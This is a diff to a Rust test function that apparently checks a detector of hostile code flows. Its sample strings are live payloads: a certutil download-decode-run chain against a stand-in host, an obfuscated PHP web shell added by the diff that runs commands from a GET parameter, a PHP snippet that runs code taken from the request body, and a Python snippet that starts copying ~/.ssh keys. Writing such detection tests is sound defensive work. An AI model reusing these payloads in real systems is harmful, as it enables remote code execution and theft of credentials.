@@ -202,6 +202,9 @@ fn commands_give_what_they_fetch_and_decode() {
     has(Language::Lua, lua, "flow-remote-code");
     let batch = "certutil -urlcache -split -f https://h.invalid/e.b64 \"%TEMP%\\e.b64\"\r\ncertutil -decode \"%TEMP%\\e.b64\" \"%TEMP%\\e.exe\"\r\nstart \"\" \"%TEMP%\\e.exe\"\r\n";
     has(Language::Batch, batch, "flow-download-run");
+    // `system($_GET['c']);`, decoded in a function that is made of text.
+    let made = "<?php $m='cre'.'ate_fun'.'ction'; function d($s){$b='base64'.'_decode'; return $b($s);} $f=$m('$x','ev'.'al(d($x));'); $f('c3lzdGVtKCRfR0VUWydjJ10pOw==');";
+    has(Language::Php, made, "flow-remote-command");
     let page = "<?php if (isset($_SERVER['HTTP_X'])) { assert(base64_decode(file_get_contents('php://input'))); }";
     has(Language::Php, page, "flow-remote-code");
     let pushed = "import os, shutil, subprocess\nd = '/tmp/x'\nshutil.copytree(os.path.expanduser('~/.ssh'), d + '/k')\n\
